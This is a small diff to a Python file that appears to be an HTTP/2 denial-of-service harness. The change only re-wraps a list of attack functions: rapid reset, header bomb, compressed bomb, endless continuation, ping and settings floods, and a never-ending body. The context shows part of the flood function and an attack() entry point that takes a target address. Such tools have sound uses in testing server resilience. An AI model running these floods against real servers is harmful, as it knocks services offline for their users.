@@ -170,7 +170,8 @@ def never_ending_body(connection, token, megabytes=64):
         connection.send(frame(DATA, 0, 1, bytes(16_000)))
 
 
-ATTACKS = [endless_continuation, small_continuation, header_bomb, rapid_reset, compressed_bomb, pings, settings, never_ending_body]
+ATTACKS = [endless_continuation, small_continuation, header_bomb, rapid_reset, compressed_bomb, pings, settings,
+           never_ending_body]
 
 
 def attack(address, which, token=None, tls=None):
